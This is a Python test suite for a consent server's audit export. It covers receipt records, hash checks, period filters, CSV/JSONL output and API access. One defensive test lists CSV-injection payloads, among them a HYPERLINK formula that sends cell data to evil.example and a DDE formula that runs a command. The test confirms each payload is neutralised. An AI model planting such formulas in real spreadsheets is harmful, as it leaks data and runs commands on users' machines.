"""Audit: the export holds every field of every receipt, of one moment, and runs nowhere."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from itertools import pairwise
from typing import Any

import pytest
from flask.testing import FlaskClient
from sqlalchemy import delete

from consent_server.audit import (
    COLUMNS,
    count_records,
    export_records,
    hold_snapshot,
    neutralise_cell,
    versions_of,
    write_csv,
    write_jsonl,
)
from consent_server.rules.canonical import canonical_json
from consent_server.rules.merkle import hash_leaf
from consent_server.site_form import load_site_form
from consent_server.sites import find_site, publish_version
from consent_server.store.database import Database
from consent_server.store.models import SubjectData
from tests.visitor import Visitor

ReadSite = Callable[[str], dict[str, Any]]
NOW = datetime(2027, 1, 2, 3, 4, 5, tzinfo=UTC)


def exported(database: Database, **period: datetime | None) -> list[dict[str, Any]]:
    with database.read() as session:
        return list(export_records(session, find_site(session, "smilee"), **period))


def versions(database: Database, **period: datetime | None) -> list[dict[str, Any]]:
    with database.read() as session:
        return list(versions_of(session, find_site(session, "smilee"), **period))


def read_csv(content: bytes) -> list[dict[str, str]]:
    rows = csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [{name: cell.removeprefix("'") for name, cell in row.items()} for row in rows]


def publish_next(database: Database, read_site: ReadSite) -> int:
    form = load_site_form({**read_site("smilee"), "valid_days": 200})
    with database.write() as session:
        return publish_version(session, form, source="", author="tests", now=NOW).number


def test_each_record_is_the_receipt_that_the_visitor_got(
    visitor: Visitor, database: Database
) -> None:
    receipts = [visitor.accept_all().json, visitor.decide("meta-pixel").json]
    receipts.append(visitor.withdraw().json)
    records = exported(database)
    assert sorted(records, key=lambda r: r["event_id"]) == sorted(
        receipts, key=lambda r: r["event_id"]
    )
    assert [record["received_at"] for record in records] == sorted(
        receipt["received_at"] for receipt in receipts
    )
    assert all(tuple(record) == COLUMNS for record in records)


def test_each_leaf_hash_follows_from_the_record_alone(visitor: Visitor, database: Database) -> None:
    visitor.accept_all()
    visitor.reject_all()
    for record in exported(database):
        entry = {name: record[name] for name in COLUMNS if name not in {"leaf_hash", "salt"}}
        assert hash_leaf(canonical_json(entry)).hex() == record["leaf_hash"]


def test_an_erased_subject_leaves_a_record_without_salt(
    visitor: Visitor, database: Database
) -> None:
    visitor.accept_all()
    with database.write() as session:
        session.execute(delete(SubjectData))
    [record] = exported(database)
    assert record["salt"] is None
    [row] = read_csv(b"".join(write_csv([record])))
    assert row["salt"] == ""


def test_only_records_of_the_site_are_exported(visitor: Visitor, database: Database) -> None:
    visitor.accept_all()
    Visitor(visitor.client, "ujet").accept_all()
    assert [record["site"] for record in exported(database)] == ["smilee"]


def test_the_period_begins_with_its_first_moment_and_ends_before_its_last(
    visitor: Visitor, database: Database
) -> None:
    visitor.accept_all()
    [record] = exported(database)
    received = datetime.fromisoformat(record["received_at"])
    later = received + timedelta(milliseconds=1)
    assert exported(database, since=received, until=later) == [record]
    assert exported(database, until=received) == []
    assert exported(database, since=later) == []
    with database.read() as session:
        site = find_site(session, "smilee")
        assert count_records(session, site) == 1
        assert count_records(session, site, received, later) == 1
        assert count_records(session, site, later) == 0


def test_an_export_under_writes_is_of_one_moment(visitor: Visitor, database: Database) -> None:
    visitor.accept_all()
    with database.read() as session:
        hold_snapshot(session)
        site = find_site(session, "smilee")
        visitor.reject_all()
        assert count_records(session, site) == 1
        assert len(list(export_records(session, site))) == 1
    assert len(exported(database)) == 2


def test_the_versions_beside_are_those_that_the_records_name(
    visitor: Visitor, database: Database, read_site: ReadSite
) -> None:
    visitor.accept_all()
    [first] = exported(database)
    publish_next(database, read_site)
    assert [version["version"] for version in versions(database)] == [1]
    [version] = versions(database)
    assert version["site"] == "smilee"
    assert version["config_hash"] == first["version_hash"]
    assert hashlib.sha256(canonical_json(version["config"])).hexdigest() == version["config_hash"]
    assert first["script_hash"] in [script["script_hash"] for script in version["scripts"]]
    assert version["config"]["texts"]["fi"]["ui"]["accept_all"]
    assert version["published_by"] == "tests"
    assert versions(database, until=datetime(2020, 1, 1, tzinfo=UTC)) == []


def test_csv_holds_the_values_of_the_json_lines(visitor: Visitor, database: Database) -> None:
    visitor.accept_all()
    visitor.decide("meta-pixel")
    records = exported(database)
    lines = [json.loads(line) for line in b"".join(write_jsonl(records)).splitlines()]
    rows = read_csv(b"".join(write_csv(records)))
    assert lines == records
    for row, record in zip(rows, records, strict=True):
        for name, value in record.items():
            assert row[name] == value or json.loads(row[name]) == value


def test_csv_begins_with_mark_and_header_even_without_records() -> None:
    content = b"".join(write_csv([]))
    assert content == b"\xef\xbb\xbf" + ",".join(COLUMNS).encode() + b"\r\n"


def test_json_lines_of_nothing_are_empty() -> None:
    assert b"".join(write_jsonl([])) == b""


@pytest.mark.parametrize(
    "hostile",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1",
        "'=1",
        '=HYPERLINK("https://evil.example?"&A1,"x")',
        "=cmd|' /C calc'!A0",
    ],
)
def test_no_cell_runs_as_a_formula_and_each_is_read_back(hostile: str) -> None:
    assert neutralise_cell(hostile)[0] == "'"
    record: dict[str, Any] = {**dict.fromkeys(COLUMNS), "region": hostile}
    [row] = read_csv(b"".join(write_csv([record])))
    assert row["region"] == hostile


def test_a_harmless_cell_stays_as_it_is() -> None:
    assert neutralise_cell('Eväste, ja "muu"') == 'Eväste, ja "muu"'
    assert neutralise_cell(7) == "7"
    assert neutralise_cell(-7) == "'-7"
    assert neutralise_cell({"=a": True}) == '{"=a":true}'


def test_the_api_streams_the_same_records(
    visitor: Visitor, admin: FlaskClient, database: Database
) -> None:
    visitor.accept_all()
    visitor.reject_all()
    lines = admin.get("/api/v1/sites/smilee/export")
    assert lines.mimetype == "application/x-ndjson"
    assert [json.loads(line) for line in lines.text.splitlines()] == exported(database)
    cells = admin.get("/api/v1/sites/smilee/export?format=csv")
    assert cells.mimetype == "text/csv"
    assert cells.data == b"".join(write_csv(exported(database)))
    beside = admin.get("/api/v1/sites/smilee/export/versions")
    assert [json.loads(line) for line in beside.text.splitlines()] == versions(database)


def test_the_api_takes_the_period(visitor: Visitor, admin: FlaskClient) -> None:
    moments = [visitor.accept_all().json["received_at"], visitor.reject_all().json["received_at"]]
    for start, end in pairwise([*moments, "2999-01-01T00:00:00Z"]):
        query = {"from": start, "to": end}
        for path, expected in (("export", 1), ("export/versions", 1)):
            answer = admin.get(f"/api/v1/sites/smilee/{path}", query_string=query)
            assert len(answer.text.splitlines()) == expected
    assert admin.get("/api/v1/sites/smilee/export?to=2020-01-01T00:00:00Z").data == b""
    assert admin.get("/api/v1/sites/smilee/export?from=yesterday").status_code == 422


@pytest.mark.parametrize("path", ["export", "export/versions"])
def test_the_api_refuses_an_unknown_site_and_a_missing_token(
    admin: FlaskClient, client: FlaskClient, path: str
) -> None:
    assert admin.get(f"/api/v1/sites/nobody/{path}").status_code == 404
    assert client.get(f"/api/v1/sites/smilee/{path}").status_code == 401
